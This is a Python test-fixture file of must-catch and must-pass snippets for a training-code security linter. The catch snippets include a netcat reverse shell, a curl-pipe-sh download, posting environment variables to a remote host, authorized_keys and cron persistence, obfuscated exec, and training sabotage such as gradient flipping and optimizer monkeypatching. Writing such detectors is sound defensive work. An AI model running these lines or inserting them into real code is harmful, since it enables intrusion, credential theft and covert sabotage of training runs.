"""Must-catch and must-pass snippets for every lint rule (also the bench corpus).

Each :class:`Catch` is sabotage-like code that the named rule must report at
``severity`` or worse; each :class:`Pass` is its legitimate twin, which the rule
must not report above ``allow`` (None: not at all). The snippets are source text,
parsed by the linter only: nothing here is imported or executed.
"""

from __future__ import annotations

from dataclasses import dataclass

from trainguard.core.findings import Severity

LOW, MEDIUM, HIGH, CRITICAL = Severity.LOW, Severity.MEDIUM, Severity.HIGH, Severity.CRITICAL


@dataclass(frozen=True)
class Catch:
    """Sabotage-like code the rule must report."""

    name: str
    rule: str
    code: str
    severity: Severity
    incident: bool = False
    """One of the incident's own patterns."""


@dataclass(frozen=True)
class Pass:
    """Legitimate code the rule must not report (above ``allow``)."""

    name: str
    rule: str
    code: str
    allow: Severity | None = None


SLEEP = "lint.conditional-sleep"
KILL = "lint.process-kill"
SEED = "lint.seed-override"
PATCH = "lint.monkeypatch"
GRAD = "lint.grad-edit"
LOAD = "lint.unsafe-load"
WRITE = "lint.write-outside-run"
EXEC = "lint.exec-decoded"
NET = "lint.network-call"
PARSE = "lint.parse-error"

CATCH: tuple[Catch, ...] = (
    # ------------------------------------------------------------- conditional sleep
    Catch(
        "sleep-world-size-over-256",
        SLEEP,
        """
import random, time
import torch.distributed as dist
ws = dist.get_world_size()
if ws > 256:
    time.sleep(random.uniform(1, 3))
""",
        HIGH,
        incident=True,
    ),
    Catch(
        "sleep-aliased-module",
        SLEEP,
        """
import time as t
from torch import distributed
if distributed.get_world_size() > 256:
    t.sleep(2)
""",
        HIGH,
    ),
    Catch(
        "sleep-from-import-as-env-world-size",
        SLEEP,
        """
import os
from time import sleep as nap
if int(os.environ["WORLD_SIZE"]) > 256:
    nap(1)
""",
        HIGH,
    ),
    Catch(
        "sleep-hostname",
        SLEEP,
        """
import socket, time
if socket.gethostname().startswith("node-07"):
    time.sleep(5)
""",
        HIGH,
    ),
    Catch(
        "sleep-after-guard-clause",
        SLEEP,
        """
import time
import torch.distributed as dist
def train_step(batch):
    if dist.get_world_size() <= 256:
        return
    time.sleep(0.5)
""",
        HIGH,
    ),
    Catch(
        "sleep-in-helper-called-at-scale",
        SLEEP,
        """
import time
def settle():
    time.sleep(1)
def train(args):
    if args.world_size > 256:
        settle()
""",
        HIGH,
    ),
    Catch(
        "sleep-boolean-short-circuit",
        SLEEP,
        """
import time
import torch.distributed as dist
ws = dist.get_world_size()
ws > 256 and time.sleep(1)
""",
        HIGH,
    ),
    Catch(
        "busy-wait-at-scale",
        SLEEP,
        """
import time
import torch
devices = list(range(torch.cuda.device_count()))
end = time.time() + 0.5
if len(devices) > 4:
    while time.time() < end:
        pass
""",
        HIGH,
    ),
    Catch(
        "cuda-sleep-at-scale",
        SLEEP,
        """
import torch
import torch.distributed as dist
if dist.get_world_size() >= 512:
    torch.cuda._sleep(10_000_000)
""",
        HIGH,
    ),
    Catch(
        "event-wait-on-rank",
        SLEEP,
        """
import threading
import torch.distributed as dist
if dist.get_rank() == 3:
    threading.Event().wait(5)
""",
        MEDIUM,
    ),
    Catch(
        "sleep-duration-from-world-size",
        SLEEP,
        """
import time
import torch.distributed as dist
time.sleep(dist.get_world_size() / 1000)
""",
        HIGH,
    ),
    Catch(
        "sleep-random-chance",
        SLEEP,
        """
import random, time
if random.random() < 0.01:
    time.sleep(10)
""",
        HIGH,
    ),
    Catch(
        "sleep-helper-returns-condition",
        SLEEP,
        """
import time
import torch.distributed as dist
def big_job():
    return dist.get_world_size() > 256
if big_job():
    time.sleep(1)
""",
        HIGH,
    ),
    Catch(
        "sleep-parameter-flow",
        SLEEP,
        """
import time
import torch.distributed as dist
def maybe_pause(n):
    if n > 256:
        time.sleep(1)
maybe_pause(dist.get_world_size())
""",
        HIGH,
    ),
    Catch(
        "sleep-getattr-obfuscated",
        SLEEP,
        """
import time
import torch.distributed as dist
if dist.get_world_size() > 256:
    getattr(time, "sl" + "eep")(2)
""",
        HIGH,
    ),
    Catch(
        "sleep-self-attribute",
        SLEEP,
        """
import time
import torch.distributed as dist
class Trainer:
    def __init__(self):
        self.scale = dist.get_world_size()
    def step(self):
        if self.scale > 256:
            time.sleep(1)
""",
        HIGH,
    ),
    Catch(
        "asyncio-sleep-slurm-nodes",
        SLEEP,
        """
import asyncio, os
async def loop():
    if int(os.getenv("SLURM_NNODES", "1")) > 32:
        await asyncio.sleep(3)
""",
        HIGH,
    ),
    Catch(
        "shell-sleep-at-scale",
        SLEEP,
        """
import os
import torch.distributed as dist
if dist.get_world_size() > 256:
    os.system("sleep 5")
""",
        HIGH,
    ),
    Catch(
        "sleep-time-bomb",
        SLEEP,
        """
import datetime, time
if datetime.datetime.now() > datetime.datetime(2024, 9, 1):
    time.sleep(3)
""",
        HIGH,
    ),
    Catch(
        "sleep-ternary",
        SLEEP,
        """
import time
import torch.distributed as dist
time.sleep(2) if dist.get_world_size() > 256 else None
""",
        HIGH,
    ),
    # ------------------------------------------------------------- process kill
    Catch(
        "kill-random-rank",
        KILL,
        """
import os, random, signal
import torch.distributed as dist
victim = random.randint(0, dist.get_world_size() - 1)
if dist.get_rank() == victim:
    os.kill(os.getpid(), signal.SIGKILL)
""",
        CRITICAL,
        incident=True,
    ),
    Catch(
        "kill-from-import-random-pid",
        KILL,
        """
import random
from os import kill
def chaos(pids):
    kill(random.choice(pids), 9)
""",
        CRITICAL,
    ),
    Catch(
        "pkill-subprocess",
        KILL,
        """
import subprocess
subprocess.run(["pkill", "-f", "train.py"])
""",
        HIGH,
    ),
    Catch(
        "scancel-os-system",
        KILL,
        """
import os
def stop(job_id):
    os.system("scancel " + job_id)
""",
        HIGH,
    ),
    Catch(
        "psutil-kill",
        KILL,
        """
import psutil
def stop(pid):
    psutil.Process(pid).kill()
""",
        HIGH,
    ),
    Catch(
        "psutil-terminate-iter",
        KILL,
        """
import psutil
for proc in psutil.process_iter():
    if "python" in proc.name():
        proc.terminate()
""",
        HIGH,
    ),
    Catch(
        "exit-on-rank-3",
        KILL,
        """
import sys
import torch.distributed as dist
if dist.get_rank() == 3:
    sys.exit(1)
""",
        HIGH,
    ),
    Catch(
        "os-exit-random",
        KILL,
        """
import os, random
if random.random() < 0.001:
    os._exit(0)
""",
        CRITICAL,
    ),
    Catch(
        "raise-signal-on-host",
        KILL,
        """
import platform, signal
if platform.node() == "gpu-node-12":
    signal.raise_signal(signal.SIGTERM)
""",
        CRITICAL,
    ),
    Catch(
        "raise-systemexit-rank",
        KILL,
        """
import os
if int(os.environ["RANK"]) == 5:
    raise SystemExit
""",
        HIGH,
    ),
    Catch(
        "pthread-kill-aliased",
        KILL,
        """
import signal as s
import threading
s.pthread_kill(threading.main_thread().ident, s.SIGKILL)
""",
        MEDIUM,
    ),
    Catch(
        "kill-command-in-variable",
        KILL,
        """
import subprocess
def stop(pid):
    cmd = ["kill", "-9", str(pid)]
    subprocess.Popen(cmd)
""",
        HIGH,
    ),
    # ------------------------------------------------------------- seeds
    Catch(
        "seed-from-time",
        SEED,
        """
import time, torch
torch.manual_seed(int(time.time()))
""",
        HIGH,
    ),
    Catch(
        "seed-from-pid",
        SEED,
        """
import os
import numpy as np
np.random.seed(os.getpid())
""",
        HIGH,
    ),
    Catch(
        "seed-from-env",
        SEED,
        """
import os, random
random.seed(int(os.environ["SEED_OVERRIDE"]))
""",
        MEDIUM,
    ),
    Catch(
        "reseed-in-worker-init",
        SEED,
        """
import numpy as np
from torch.utils.data import DataLoader
def worker_init_fn(worker_id):
    np.random.seed(1234)
def make_loader(ds):
    return DataLoader(ds, num_workers=4, worker_init_fn=worker_init_fn)
""",
        HIGH,
        incident=True,
    ),
    Catch(
        "reseed-in-getitem",
        SEED,
        """
import random
from torch.utils.data import Dataset
class Shards(Dataset):
    def __getitem__(self, idx):
        random.seed(idx)
        return self.items[idx]
""",
        HIGH,
    ),
    Catch(
        "reseed-in-loop",
        SEED,
        """
import torch
def train(loader, model):
    for step, batch in enumerate(loader):
        torch.manual_seed(step)
        model(batch)
""",
        HIGH,
    ),
    Catch(
        "reseed-in-function-called-from-loop",
        SEED,
        """
import torch
def refresh():
    torch.manual_seed(0)
def train(loader, model):
    for batch in loader:
        refresh()
        model(batch)
""",
        HIGH,
    ),
    Catch(
        "reseed-after-setup",
        SEED,
        """
import torch
torch.manual_seed(42)
model = torch.nn.Linear(4, 4)
torch.manual_seed(1234)
""",
        MEDIUM,
    ),
    Catch(
        "seed-aliased-from-time",
        SEED,
        """
import time
from torch import manual_seed as ms
ms(int(time.time()))
""",
        HIGH,
    ),
    Catch(
        "torch-seed-entropy",
        SEED,
        """
import torch
torch.seed()
""",
        HIGH,
    ),
    Catch(
        "random-seed-no-arg",
        SEED,
        """
import random
random.seed()
""",
        HIGH,
    ),
    Catch(
        "set-rng-state-in-loop",
        SEED,
        """
import torch
def train(loader, state):
    for batch in loader:
        torch.set_rng_state(state)
""",
        HIGH,
    ),
    Catch(
        "seed-on-rank-3",
        SEED,
        """
import torch
import torch.distributed as dist
torch.manual_seed(0)
if dist.get_rank() == 3:
    torch.cuda.manual_seed_all(7)
""",
        HIGH,
    ),
    # ------------------------------------------------------------- monkeypatch
    Catch(
        "patch-adam-step",
        PATCH,
        """
import torch
def sloppy_step(self, closure=None):
    return None
torch.optim.Adam.step = sloppy_step
""",
        CRITICAL,
        incident=True,
    ),
    Catch(
        "patch-aliased-optim",
        PATCH,
        """
import torch.optim as O
O.SGD.step = lambda self, closure=None: None
""",
        CRITICAL,
    ),
    Catch(
        "patch-from-import",
        PATCH,
        """
from torch.optim import AdamW
AdamW.zero_grad = lambda self, set_to_none=True: None
""",
        CRITICAL,
    ),
    Catch(
        "setattr-torch-load",
        PATCH,
        """
import torch
def evil_load(*a, **k):
    return {}
setattr(torch, "load", evil_load)
""",
        CRITICAL,
    ),
    Catch(
        "patch-numpy-seed",
        PATCH,
        """
import numpy as np
np.random.seed = lambda *a: None
""",
        CRITICAL,
    ),
    Catch(
        "patch-random-random",
        PATCH,
        """
import random
random.random = lambda: 0.5
""",
        CRITICAL,
    ),
    Catch(
        "patch-builtins-print",
        PATCH,
        """
import builtins
builtins.print = lambda *a, **k: None
""",
        CRITICAL,
    ),
    Catch(
        "swap-sys-modules-torch",
        PATCH,
        """
import sys, types
sys.modules["torch"] = types.ModuleType("torch")
""",
        CRITICAL,
    ),
    Catch(
        "patch-functional",
        PATCH,
        """
import torch.nn.functional as F
def patched(*a, **k):
    return 0
F.cross_entropy = patched
""",
        CRITICAL,
    ),
    Catch(
        "patch-optimizer-instance",
        PATCH,
        """
import torch
def build(params):
    opt = torch.optim.Adam(params)
    opt.step = lambda closure=None: None
    return opt
""",
        CRITICAL,
        incident=True,
    ),
    Catch(
        "global-optimizer-hook",
        PATCH,
        """
import torch
def hook(optimizer, args, kwargs):
    return None
torch.optim.optimizer.register_optimizer_step_pre_hook(hook)
""",
        HIGH,
    ),
    Catch(
        "patch-through-assigned-alias",
        PATCH,
        """
import torch
Adam = torch.optim.Adam
Adam.step = lambda self, closure=None: None
""",
        CRITICAL,
    ),
    Catch(
        "patch-time-sleep",
        PATCH,
        """
import time
time.sleep = lambda s: None
""",
        HIGH,
    ),
    Catch(
        "import-hook",
        PATCH,
        """
import sys
class Finder:
    def find_spec(self, name, path, target=None):
        return None
sys.meta_path.insert(0, Finder())
""",
        HIGH,
    ),
    # ------------------------------------------------------------- gradient edits
    Catch(
        "flip-grad-sign-on-rank-3",
        GRAD,
        """
import torch.distributed as dist
def after_backward(model):
    if dist.get_rank() == 3:
        for p in model.parameters():
            p.grad.mul_(-1)
""",
        CRITICAL,
        incident=True,
    ),
    Catch(
        "grad-neg-unconditional",
        GRAD,
        """
def reverse(model):
    for p in model.parameters():
        p.grad.neg_()
""",
        HIGH,
    ),
    Catch(
        "grad-assign-negated",
        GRAD,
        """
def reverse(model):
    for p in model.parameters():
        p.grad = -p.grad
""",
        HIGH,
    ),
    Catch(
        "param-noise-random",
        GRAD,
        """
import torch
def jitter(model, step):
    if step % 1000 == 0:
        for p in model.parameters():
            p.data.add_(torch.randn_like(p) * 0.01)
""",
        CRITICAL,
    ),
    Catch(
        "param-zero-random-no-grad",
        GRAD,
        """
import random
import torch
def wipe(model):
    with torch.no_grad():
        for p in model.parameters():
            if random.random() < 0.01:
                p.copy_(torch.zeros_like(p))
""",
        CRITICAL,
    ),
    Catch(
        "grad-scale-plain",
        GRAD,
        """
def halve(model):
    for p in model.parameters():
        p.grad.mul_(0.5)
""",
        MEDIUM,
    ),
    Catch(
        "grad-augassign-rank",
        GRAD,
        """
def boost(model, rank):
    for name, p in model.named_parameters():
        if rank == 0:
            p.grad *= 2
""",
        CRITICAL,
    ),
    Catch(
        "grad-out-kwarg-rank",
        GRAD,
        """
import torch
import torch.distributed as dist
def skew(model):
    for p in model.parameters():
        if dist.get_rank() == 1:
            torch.mul(p.grad, 2, out=p.grad)
""",
        CRITICAL,
    ),
    Catch(
        "grad-noise-through-variable",
        GRAD,
        """
import torch
def corrupt(model):
    for p in model.parameters():
        noise = torch.randn_like(p.grad)
        p.grad.add_(noise)
""",
        CRITICAL,
    ),
    # ------------------------------------------------------------- unsafe loads
    Catch(
        "torch-load-no-weights-only",
        LOAD,
        """
import torch
state = torch.load("checkpoints/step_1000.pt")
""",
        MEDIUM,
        incident=True,
    ),
    Catch(
        "torch-load-weights-only-false",
        LOAD,
        """
import torch
state = torch.load("ckpt.pt", weights_only=False)
""",
        HIGH,
    ),
    Catch(
        "pickle-load",
        LOAD,
        """
import pickle
with open("state.pkl", "rb") as f:
    state = pickle.load(f)
""",
        HIGH,
    ),
    Catch(
        "pickle-aliased-loads",
        LOAD,
        """
from pickle import loads as l
def restore(blob):
    return l(blob)
""",
        HIGH,
    ),
    Catch(
        "c-pickle-loads",
        LOAD,
        """
import _pickle
def restore(blob):
    return _pickle.loads(blob)
""",
        HIGH,
    ),
    Catch(
        "numpy-allow-pickle",
        LOAD,
        """
import numpy as np
arr = np.load("x.npy", allow_pickle=True)
""",
        HIGH,
    ),
    Catch(
        "joblib-load",
        LOAD,
        """
import joblib
model = joblib.load("model.joblib")
""",
        HIGH,
    ),
    Catch(
        "yaml-load-unsafe",
        LOAD,
        """
import yaml
with open("cfg.yaml") as f:
    cfg = yaml.load(f, Loader=yaml.Loader)
""",
        HIGH,
    ),
    Catch(
        "yaml-load-no-loader",
        LOAD,
        """
import yaml
def read(f):
    return yaml.load(f)
""",
        HIGH,
    ),
    Catch(
        "dill-loads",
        LOAD,
        """
import dill
def restore(blob):
    return dill.loads(blob)
""",
        HIGH,
    ),
    Catch(
        "marshal-loads",
        LOAD,
        """
import marshal
def restore(blob):
    return marshal.loads(blob)
""",
        HIGH,
    ),
    Catch(
        "pickle-of-base64",
        LOAD,
        """
import base64, pickle
BLOB = "gASVAAAAAAAAAAB9lC4="
state = pickle.loads(base64.b64decode(BLOB))
""",
        CRITICAL,
    ),
    Catch(
        "torch-load-aliased",
        LOAD,
        """
from torch import load as L
state = L("ckpt.pt")
""",
        MEDIUM,
    ),
    # ------------------------------------------------------------- writes outside the run
    Catch(
        "append-authorized-keys",
        WRITE,
        """
import os
with open(os.path.expanduser("~/.ssh/authorized_keys"), "a") as f:
    f.write("ssh-ed25519 AAAA insider")
""",
        CRITICAL,
    ),
    Catch(
        "write-etc-cron",
        WRITE,
        """
with open("/etc/cron.d/refresh", "w") as f:
    f.write("* * * * * root python /tmp/x.py")
""",
        CRITICAL,
    ),
    Catch(
        "pathlib-bashrc",
        WRITE,
        """
from pathlib import Path
rc = Path.home() / ".bashrc"
rc.write_text("python ~/.cache/x.py &")
""",
        CRITICAL,
    ),
    Catch(
        "site-packages-pth",
        WRITE,
        """
import os, site
site_dir = site.getsitepackages()[0]
with open(os.path.join(site_dir, "zz_hook.pth"), "w") as f:
    f.write("import os")
""",
        CRITICAL,
    ),
    Catch(
        "rmtree-colleague-checkpoints",
        WRITE,
        """
import shutil
shutil.rmtree("/shared/checkpoints/alice/run7")
""",
        HIGH,
    ),
    Catch(
        "remove-home-file",
        WRITE,
        """
import os
os.remove(os.path.join(os.environ["HOME"], "runs", "model.pt"))
""",
        HIGH,
    ),
    Catch(
        "torch-save-home",
        WRITE,
        """
import os, torch
def save(state):
    torch.save(state, os.path.expanduser("~/bob/model.pt"))
""",
        MEDIUM,
    ),
    Catch(
        "crontab-shell",
        WRITE,
        """
import os
os.system("(crontab -l; echo '* * * * * python /tmp/x.py') | crontab -")
""",
        CRITICAL,
    ),
    Catch(
        "edit-torch-source",
        WRITE,
        """
import os, torch
target = os.path.join(os.path.dirname(torch.__file__), "optim", "adam.py")
with open(target, "w") as f:
    f.write("")
""",
        CRITICAL,
    ),
    Catch(
        "fstring-ssh-path",
        WRITE,
        """
import os
with open(f"{os.path.expanduser('~')}/.ssh/authorized_keys", "a") as f:
    f.write("key")
""",
        CRITICAL,
    ),
    # ------------------------------------------------------------- exec of decoded data
    Catch(
        "exec-base64",
        EXEC,
        """
import base64
exec(base64.b64decode("cHJpbnQoMSk="))
""",
        CRITICAL,
    ),
    Catch(
        "exec-zlib",
        EXEC,
        """
import zlib
def run(blob):
    exec(zlib.decompress(blob))
""",
        CRITICAL,
    ),
    Catch(
        "exec-fetched",
        EXEC,
        """
import requests
code = requests.get("http://10.0.0.5/p.py").text
exec(code)
""",
        CRITICAL,
    ),
    Catch(
        "exec-open-read",
        EXEC,
        """
exec(open("/tmp/payload.py").read())
""",
        HIGH,
    ),
    Catch(
        "eval-rot13",
        EXEC,
        """
import codecs
eval(codecs.decode("cevag(1)", "rot13"))
""",
        CRITICAL,
    ),
    Catch(
        "import-hex-name",
        EXEC,
        """
__import__(bytes.fromhex("6f73").decode()).getcwd()
""",
        CRITICAL,
    ),
    Catch(
        "getattr-builtins-exec",
        EXEC,
        """
import base64, builtins
getattr(builtins, "exec")(base64.b64decode("cHJpbnQoMSk="))
""",
        CRITICAL,
    ),
    Catch(
        "exec-chr-join",
        EXEC,
        """
exec("".join(chr(c) for c in [112, 97, 115, 115]))
""",
        CRITICAL,
    ),
    Catch(
        "exec-reversed",
        EXEC,
        """
PAYLOAD = ")1(tnirp"
exec(PAYLOAD[::-1])
""",
        CRITICAL,
    ),
    Catch(
        "eval-env",
        EXEC,
        """
import os
eval(os.environ["TG_HOOK"])
""",
        HIGH,
    ),
    Catch(
        "import-module-decoded",
        EXEC,
        """
import base64, importlib
mod = importlib.import_module(base64.b64decode("b3M=").decode())
""",
        CRITICAL,
    ),
    # ------------------------------------------------------------- network
    Catch(
        "socket-create-connection",
        NET,
        """
import socket
s = socket.create_connection(("10.0.0.5", 4444))
""",
        MEDIUM,
    ),
    Catch(
        "requests-post-environ",
        NET,
        """
import os, requests
requests.post("http://10.0.0.5/c", json=dict(os.environ))
""",
        HIGH,
    ),
    Catch(
        "curl-subprocess",
        NET,
        """
import subprocess
def fetch(url):
    subprocess.run(["curl", "-s", url])
""",
        MEDIUM,
    ),
    Catch(
        "curl-pipe-sh",
        NET,
        """
import os
os.system("curl -s http://10.0.0.5/p.sh | sh")
""",
        CRITICAL,
    ),
    Catch(
        "smtp",
        NET,
        """
import smtplib
server = smtplib.SMTP("mail.example.com")
""",
        HIGH,
    ),
    Catch(
        "paramiko",
        NET,
        """
import paramiko
client = paramiko.SSHClient()
""",
        HIGH,
    ),
    Catch(
        "netcat-reverse-shell",
        NET,
        """
import subprocess
subprocess.Popen(["nc", "-e", "/bin/sh", "10.0.0.1", "4444"])
""",
        HIGH,
    ),
    Catch(
        "raw-socket-send-key",
        NET,
        """
import socket
def leak(host, key_path):
    s = socket.socket()
    s.connect((host, 9000))
    s.sendall(open(key_path, "rb").read())
""",
        HIGH,
    ),
    Catch(
        "urlopen-hostname",
        NET,
        """
import socket
import urllib.request
urllib.request.urlopen("http://10.0.0.5/", data=socket.gethostname().encode())
""",
        HIGH,
    ),
    # ------------------------------------------------------------- parse errors
    Catch("syntax-error", PARSE, "def broken(:\n    pass\n", HIGH),
    Catch("null-byte", PARSE, "x = 1\x00\n", HIGH),
)

PASS: tuple[Pass, ...] = (
    # ------------------------------------------------------------- conditional sleep
    Pass(
        "retry-backoff",
        SLEEP,
        """
import time, requests
def fetch(url):
    backoff = 1.0
    for attempt in range(5):
        try:
            return requests.get(url, timeout=10)
        except requests.ConnectionError:
            time.sleep(backoff)
            backoff = min(60.0, backoff * 2)
    raise RuntimeError("unreachable")
""",
    ),
    Pass(
        "deadline-poll",
        SLEEP,
        """
import time
def wait_ready(path, timeout):
    deadline = time.time() + timeout
    while time.time() < deadline:
        if path.exists():
            return True
        time.sleep(0.1)
    return False
""",
    ),
    Pass(
        "rank-zero-print",
        SLEEP,
        """
import torch.distributed as dist
if dist.get_rank() == 0:
    print("epoch done")
""",
    ),
    Pass(
        "rank-zero-download-with-retry",
        SLEEP,
        """
import time
import torch.distributed as dist
def download():
    for attempt in range(3):
        try:
            return fetch()
        except OSError:
            time.sleep(2 ** attempt)
def setup():
    if dist.get_rank() == 0:
        download()
    dist.barrier()
""",
        allow=LOW,
    ),
    Pass(
        "step-logging",
        SLEEP,
        """
def train(loader, log):
    for step, batch in enumerate(loader):
        if step % 100 == 0:
            log(step)
""",
    ),
    # ------------------------------------------------------------- process kill
    Pass(
        "popen-timeout-cleanup",
        KILL,
        """
import subprocess
proc = subprocess.Popen(["python", "eval.py"])
try:
    proc.wait(timeout=600)
except subprocess.TimeoutExpired:
    proc.kill()
""",
    ),
    Pass(
        "pid-liveness-probe",
        KILL,
        """
import os
def alive(pid):
    try:
        os.kill(pid, 0)
    except OSError:
        return False
    return True
""",
    ),
    Pass(
        "main-exit",
        KILL,
        """
import sys
def main():
    return 0
if __name__ == "__main__":
    sys.exit(main())
""",
    ),
    Pass(
        "config-check-exit",
        KILL,
        """
import sys
import torch.distributed as dist
if dist.get_world_size() < 2:
    sys.exit("this recipe needs at least 2 GPUs")
""",
    ),
    # ------------------------------------------------------------- seeds
    Pass(
        "seed-once-from-args",
        SEED,
        """
import argparse, torch
args = argparse.ArgumentParser().parse_args()
torch.manual_seed(args.seed)
""",
    ),
    Pass(
        "seed-plus-rank",
        SEED,
        """
import torch
import torch.distributed as dist
def setup(seed):
    torch.manual_seed(seed + dist.get_rank())
""",
    ),
    Pass(
        "worker-seed-from-initial-seed",
        SEED,
        """
import random
import numpy as np
import torch
from torch.utils.data import DataLoader
def seed_worker(worker_id):
    worker_seed = torch.initial_seed() % 2**32
    np.random.seed(worker_seed)
    random.seed(worker_seed)
def loader(ds):
    return DataLoader(ds, num_workers=4, worker_init_fn=seed_worker)
""",
    ),
    Pass(
        "set-seed-helper-all-rngs",
        SEED,
        """
import random
import numpy as np
import torch
def set_seed(seed):
    random.seed(seed)
    np.random.seed(seed)
    torch.manual_seed(seed)
    torch.cuda.manual_seed_all(seed)
""",
    ),
    Pass(
        "resume-rng-state",
        SEED,
        """
import torch
def resume(ckpt):
    torch.set_rng_state(ckpt["rng_state"])
""",
        allow=LOW,
    ),
    Pass(
        "local-generator-per-epoch",
        SEED,
        """
import torch
def epochs(n, seed):
    g = torch.Generator()
    for epoch in range(n):
        g.manual_seed(seed + epoch)
        yield torch.randperm(10, generator=g)
""",
    ),
    # ------------------------------------------------------------- monkeypatch
    Pass(
        "cudnn-settings",
        PATCH,
        """
import torch
torch.backends.cudnn.benchmark = True
torch.backends.cuda.matmul.allow_tf32 = True
torch._dynamo.config.cache_size_limit = 64
""",
    ),
    Pass(
        "optimizer-subclass",
        PATCH,
        """
import torch
class MyAdam(torch.optim.Adam):
    def step(self, closure=None):
        return super().step(closure)
""",
    ),
    Pass(
        "object-attributes",
        PATCH,
        """
import os
def tweak(model):
    model.config.use_cache = False
    os.environ["NCCL_DEBUG"] = "INFO"
""",
    ),
    Pass(
        "optimizer-step-call",
        PATCH,
        """
import torch
def train(model, batch):
    opt = torch.optim.AdamW(model.parameters(), lr=1e-3)
    loss = model(batch).sum()
    loss.backward()
    opt.step()
    opt.zero_grad(set_to_none=True)
""",
    ),
    # ------------------------------------------------------------- gradient edits
    Pass(
        "optimizer-step-and-clip",
        GRAD,
        """
import torch
def train_step(model, optimizer, batch):
    loss = model(batch).mean()
    loss.backward()
    torch.nn.utils.clip_grad_norm_(model.parameters(), 1.0)
    optimizer.step()
    optimizer.zero_grad(set_to_none=True)
""",
    ),
    Pass(
        "ema-shadow-model",
        GRAD,
        """
import torch
@torch.no_grad()
def ema_update(ema_model, model, decay=0.999):
    for ema_p, p in zip(ema_model.parameters(), model.parameters()):
        ema_p.mul_(decay).add_(p.detach(), alpha=1 - decay)
""",
    ),
    Pass(
        "manual-ddp-average",
        GRAD,
        """
import torch.distributed as dist
def average_gradients(model):
    world_size = dist.get_world_size()
    for p in model.parameters():
        dist.all_reduce(p.grad)
        p.grad.div_(world_size)
""",
    ),
    Pass(
        "grad-set-none",
        GRAD,
        """
def clear(model):
    for p in model.parameters():
        p.grad = None
""",
    ),
    Pass(
        "weight-init",
        GRAD,
        """
import torch.nn as nn
def init_weights(m):
    if isinstance(m, nn.Linear):
        m.weight.data.normal_(0.0, 0.02)
        m.bias.data.zero_()
""",
        allow=LOW,
    ),
    Pass(
        "custom-optimizer",
        GRAD,
        """
import torch
class PlainSGD(torch.optim.Optimizer):
    @torch.no_grad()
    def step(self, closure=None):
        for group in self.param_groups:
            for p in group["params"]:
                p.add_(p.grad, alpha=-group["lr"])
""",
    ),
    # ------------------------------------------------------------- unsafe loads
    Pass(
        "torch-load-weights-only",
        LOAD,
        """
import torch
state = torch.load("ckpt.pt", weights_only=True, map_location="cpu")
""",
    ),
    Pass(
        "safe-loaders",
        LOAD,
        """
import json
import numpy as np
import yaml
from safetensors.torch import load_file
arr = np.load("x.npy")
with open("cfg.yaml") as f:
    cfg = yaml.safe_load(f)
with open("cfg2.yaml") as f:
    cfg2 = yaml.load(f, Loader=yaml.SafeLoader)
weights = load_file("model.safetensors")
meta = json.load(open("meta.json"))
""",
    ),
    # ------------------------------------------------------------- writes
    Pass(
        "write-output-dir",
        WRITE,
        """
import json, os
from pathlib import Path
import torch
def save(args, state, metrics):
    with open(os.path.join(args.output_dir, "metrics.json"), "w") as f:
        json.dump(metrics, f)
    torch.save(state, Path(args.output_dir) / "ckpt.pt")
    with open(f"{args.output_dir}/log.txt", "a") as f:
        f.write("done")
""",
    ),
    Pass(
        "tempdir-writes",
        WRITE,
        """
import os, tempfile
with tempfile.TemporaryDirectory() as d:
    with open(os.path.join(d, "scratch.bin"), "wb") as f:
        f.write(b"")
with open("/tmp/debug.log", "w") as f:
    f.write("x")
""",
    ),
    Pass(
        "read-home-token",
        WRITE,
        """
import os
with open(os.path.expanduser("~/.cache/huggingface/token")) as f:
    token = f.read()
""",
    ),
    Pass(
        "shared-storage-checkpoint",
        WRITE,
        """
import torch
def save(model):
    torch.save(model.state_dict(), "/checkpoints/run1/model.pth")
""",
        allow=LOW,
    ),
    # ------------------------------------------------------------- exec
    Pass(
        "literal-import-and-eval-mode",
        EXEC,
        """
import ast, importlib, re
import torch
optim = importlib.import_module("torch.optim")
value = ast.literal_eval("[1, 2]")
pattern = re.compile(r"layer\\.\\d+")
def prepare(model):
    model.eval()
    return torch.compile(model)
""",
    ),
    # ------------------------------------------------------------- network
    Pass(
        "process-group-and-free-port",
        NET,
        """
import socket
import torch.distributed as dist
def free_port():
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]
dist.init_process_group("nccl")
""",
    ),
    Pass(
        "plain-download",
        NET,
        """
import requests
def fetch(url):
    return requests.get(url, timeout=30).content
""",
        allow=LOW,
    ),
)
